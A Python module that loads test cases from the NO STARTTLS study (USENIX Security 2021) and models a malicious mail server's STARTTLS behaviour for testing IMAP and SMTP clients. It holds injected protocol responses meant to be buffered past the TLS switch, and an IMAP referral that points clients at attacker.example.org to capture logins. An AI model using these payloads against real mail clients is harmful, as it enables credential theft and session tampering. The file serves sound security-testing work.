"""The cases of the NO STARTTLS study (USENIX Security 2021), read from its configuration files.

A few files carry their attack in comments, to be switched on by hand; `ACTIVATED` switches it on.
"""

import re
import tarfile
from dataclasses import dataclass, field, replace
from pathlib import Path

REFERRAL = b"[REFERRAL imap://;AUTH=*@attacker.example.org:243/]"
_NAMES = {
    "Imap4Rev1": "IMAP4rev1",
    "StartTls": "STARTTLS",
    "StartTLS": "STARTTLS",
    "LoginDisabled": "LOGINDISABLED",
    "LoginReferrals": "LOGIN-REFERRALS",
    "MailboxReferrals": "MAILBOX-REFERRALS",
    "Auth(Plain)": "AUTH=PLAIN",
    "Auth(Login)": "AUTH=LOGIN",
}


@dataclass(frozen=True)
class Case:
    """What the attacker's server does."""

    name: str
    protocol: str
    greeting: str = "OK"
    greeting_capabilities: tuple[str, ...] | None = None
    capabilities: tuple[str, ...] = ()
    capabilities_tls: tuple[str, ...] = ()
    after_greeting: bytes = b""
    starttls_response: bytes | None = None
    transition: bool = True
    hidden: tuple[str, ...] = ()
    referral_on: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True)
class Variant:
    """What a file's comments say to switch on."""

    label: str
    changes: dict[str, object] = field(default_factory=dict)


ACTIVATED: dict[str, tuple[Variant, ...]] = {
    "imap/Buffering/B_1": (
        Variant(
            "suffix",
            {
                "starttls_response": b"<tag> OK begin STARTTLS now.\r\n"
                b"* CAPABILITY IMAP4REV1 AUTH=PLAIN AUTH=LOGIN\r\n2 OK capability done.\r\n"
            },
        ),
    ),
    "imap/Buffering/B_2": (
        Variant(
            "prefix",
            {"starttls_response": b"* OK [ALERT] prefix.\r\n<tag> OK begin STARTTLS now.\r\n"},
        ),
        Variant(
            "suffix",
            {"starttls_response": b"<tag> OK begin STARTTLS now.\r\n* OK [ALERT] suffix.\r\n"},
        ),
    ),
    "imap/Buffering/B_3": (
        Variant(
            "bye",
            {"starttls_response": b"<tag> OK begin STARTTLS now.\r\n* BYE close, please.\r\n"},
        ),
    ),
    "imap/Negotiation/L_1_A": (
        Variant("login", {"referral_on": ("LOGIN",)}),
        Variant("authenticate", {"referral_on": ("AUTHENTICATE", "LOGIN")}),
    ),
    "imap/Negotiation/M_1_B": (Variant("select", {"referral_on": ("SELECT", "EXAMINE")}),),
    "imap/Negotiation/M_2_A": (Variant("select", {"referral_on": ("SELECT", "EXAMINE")}),),
    "imap/Negotiation/M_2_B": (Variant("select", {"referral_on": ("SELECT", "EXAMINE")}),),
    "smtp/Buffering/B_1": (
        Variant(
            "suffix",
            {
                "starttls_response": b"220 Ready to start TLS\r\n"
                b"250-example.org\r\n250 AUTH LOGIN\r\n"
            },
        ),
    ),
}


def read_cases(archive: Path, protocol: str) -> list[Case]:
    """Return the cases of one protocol, each file's attack switched on."""
    cases: list[Case] = []
    with tarfile.open(archive) as tar:
        for member in sorted(tar.getmembers(), key=lambda member: member.name):
            path = member.name.partition("testcases/")[2]
            if not path.endswith(".ron") or not path.startswith(protocol + "/"):
                continue
            source = tar.extractfile(member)
            assert source is not None
            case = _parse(path.removesuffix(".ron"), protocol, source.read().decode())
            variants = ACTIVATED.get(case.name, (Variant(""),))
            cases += [
                replace(case, name=f"{case.name} {v.label}".strip(), **v.changes)  # type: ignore[arg-type]
                for v in variants
            ]
    return cases


def _parse(name: str, protocol: str, text: str) -> Case:
    text = re.sub(r"^\s*//.*$", "", text, flags=re.MULTILINE)
    if protocol == "smtp":
        found = re.search(r'stls_response: "((?:[^"\\]|\\.)*)"', text)
        return Case(
            name,
            protocol,
            capabilities=_capabilities(text, "capabilities"),
            capabilities_tls=_capabilities(text, "capabilities_tls"),
            starttls_response=_text(found),
            transition="stls_make_transition: false" not in text,
            hidden=_words(text, "hide_commands"),
        )
    kind = re.search(r"kind: (\w+)", text)
    code = re.search(r"code: Some\(Capability\(NonEmptyVec\(\[(.*?)\]\)", text)
    return Case(
        name,
        protocol,
        greeting=kind.group(1).upper() if kind else "OK",
        greeting_capabilities=_split(code.group(1)) if code else None,
        capabilities=_capabilities(text, "caps"),
        capabilities_tls=_capabilities(text, "caps_tls"),
        after_greeting=_text(re.search(r'response_after_greeting: Some\("(.*?)"\),', text)) or b"",
        starttls_response=_text(re.search(r'starttls_response: Some\("(.*?)"\),', text)),
        transition="starttls_transition: false" not in text,
        hidden=_words(text, "hide_commands"),
    )


def _capabilities(text: str, key: str) -> tuple[str, ...]:
    found = re.search(rf"\b{key}: \[(.*)\],", text)
    return _split(found.group(1)) if found else ()


def _split(text: str) -> tuple[str, ...]:
    if text.startswith("Auth(["):
        return ("AUTH PLAIN LOGIN",)
    text = re.sub(r'Other\(CapabilityOther\(inner: Atom\("(\w+)"\)\)\)', r"\1", text)
    return tuple(_NAMES.get(word.strip(), word.strip()) for word in text.split(",") if word.strip())


def _words(text: str, key: str) -> tuple[str, ...]:
    found = re.search(rf"{key}: \[(.*?)\]", text)
    return tuple(re.findall(r'"(\w+)"', found.group(1))) if found else ()


def _text(found: re.Match[str] | None) -> bytes | None:
    if found is None:
        return None
    return found.group(1).encode().decode("unicode_escape").encode()
